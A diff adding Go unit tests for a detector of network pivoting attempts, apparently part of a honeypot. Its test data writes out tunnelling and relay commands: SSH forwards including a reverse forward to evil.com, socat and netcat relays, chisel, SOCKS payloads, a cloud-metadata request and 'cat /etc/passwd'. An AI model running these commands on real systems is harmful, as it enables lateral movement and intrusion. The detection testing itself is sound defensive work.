@@ -0,0 +1,115 @@
+// Copyright 2016-2019 DutchSec (https://dutchsec.com/)
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+// http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+package pivot
+
+import (
+	"testing"
+)
+
+func TestDetect(t *testing.T) {
+	tests := []struct {
+		data   string
+		method string
+		target string
+	}{
+		{"\x04\x01\x00\x16\x0a\x00\x00\x05root\x00", "socks4", "10.0.0.5:22"},
+		{"\x04\x01\x01\xbb\x00\x00\x00\x01\x00intranet.local\x00", "socks4", "intranet.local:443"},
+		{"\x05\x01\x00", "socks5", ""},
+		{"\x05\x01\x00\x01\xc0\xa8\x01\x01\x0d\x3d", "socks5", "192.168.1.1:3389"},
+		{"\x05\x01\x00\x05\x01\x00\x03\x07db.corp\x0c\xea", "socks5", "db.corp:3306"},
+		{"CONNECT 10.1.2.3:445 HTTP/1.1\r\nHost: 10.1.2.3:445\r\n\r\n", "http-connect", "10.1.2.3:445"},
+		{"GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\n\r\n", "http-proxy", "169.254.169.254:80"},
+		{"GET / HTTP/1.1\r\nHost: example.com\r\n\r\n", "", ""},
+		{"\x05\x00", "", ""},
+		{"SSH-2.0-OpenSSH_7.4\r\n", "", ""},
+	}
+
+	for _, test := range tests {
+		attempts := Detect([]byte(test.data))
+
+		if test.method == "" {
+			if len(attempts) != 0 {
+				t.Errorf("Expected no attempt for %q, got %v", test.data, attempts)
+			}
+
+			continue
+		}
+
+		if len(attempts) != 1 || attempts[0].Method != test.method || attempts[0].Target != test.target {
+			t.Errorf("Expected %s to %s for %q, got %v", test.method, test.target, test.data, attempts)
+		}
+	}
+}
+
+func TestCommand(t *testing.T) {
+	tests := []struct {
+		line   string
+		method string
+		target string
+	}{
+		{"ssh -fNL 8080:10.0.0.5:80 root@10.0.0.1", "ssh-local-forward", "10.0.0.5:80"},
+		{"ssh -N -R 0.0.0.0:2222:localhost:22 user@evil.com", "ssh-remote-forward", "localhost:22"},
+		{"sudo ssh -D 1080 -p 2222 root@host", "ssh-dynamic-forward", "1080"},
+		{"ssh -o ProxyJump=bastion db01", "ssh-jump", "bastion"},
+		{"ssh -J jump@10.0.0.2 root@10.0.0.3", "ssh-jump", "jump@10.0.0.2"},
+		{"socat TCP-LISTEN:3389,fork TCP:10.0.0.7:3389 &", "socat", "10.0.0.7:3389"},
+		{"ncat -lk 8080 --sh-exec \"ncat 10.0.0.9 22\"", "netcat-relay", "10.0.0.9:22"},
+		{"mkfifo /tmp/f; nc -lvp 4444 < /tmp/f | nc 192.168.0.10 5432 > /tmp/f", "netcat-relay", "192.168.0.10:5432"},
+		{"ncat -l 3128 --proxy-type http", "ncat-proxy", "3128"},
+		{"iptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to-destination 10.0.0.4:8080", "iptables-dnat", "10.0.0.4:8080"},
+		{"echo 1 > /proc/sys/net/ipv4/ip_forward", "ip-forward", ""},
+		{"netsh interface portproxy add v4tov4 listenport=4444 connectaddress=10.0.0.8 connectport=3389", "portproxy", "10.0.0.8:3389"},
+		{"./chisel client 203.0.113.5:8000 R:socks", "chisel", "203.0.113.5:8000"},
+		{"ls -la; cat /etc/passwd", "", ""},
+		{"ssh root@10.0.0.1", "", ""},
+		{"nc 10.0.0.1 80", "", ""},
+	}
+
+	for _, test := range tests {
+		attempts := Command(test.line)
+
+		if test.method == "" {
+			if len(attempts) != 0 {
+				t.Errorf("Expected no attempt for %q, got %v", test.line, attempts)
+			}
+
+			continue
+		}
+
+		if len(attempts) != 1 || attempts[0].Method != test.method || attempts[0].Target != test.target || attempts[0].Command != test.line {
+			t.Errorf("Expected %s to %s for %q, got %v", test.method, test.target, test.line, attempts)
+		}
+	}
+}
+
+func TestScanner(t *testing.T) {
+	attempts := []Attempt{}
+
+	s := NewScanner(func(a Attempt) {
+		attempts = append(attempts, a)
+	})
+
+	// the command is typed with a correction and the arrow keys
+	s.Write([]byte("ssh -D 10800\x7f \x1b[D\x1b[Cbastion\r"))
+	s.Write([]byte("whoami\r\n"))
+	s.Write([]byte("ssh -D 1080 bastion\r"))
+
+	if len(attempts) != 1 || attempts[0].Method != "ssh-dynamic-forward" || attempts[0].Target != "1080" {
+		t.Errorf("Expected a single dynamic forward, got %v", attempts)
+	}
+
+	if attempts[0].Command != "ssh -D 1080 bastion" {
+		t.Errorf("Expected command line, got %q", attempts[0].Command)
+	}
+}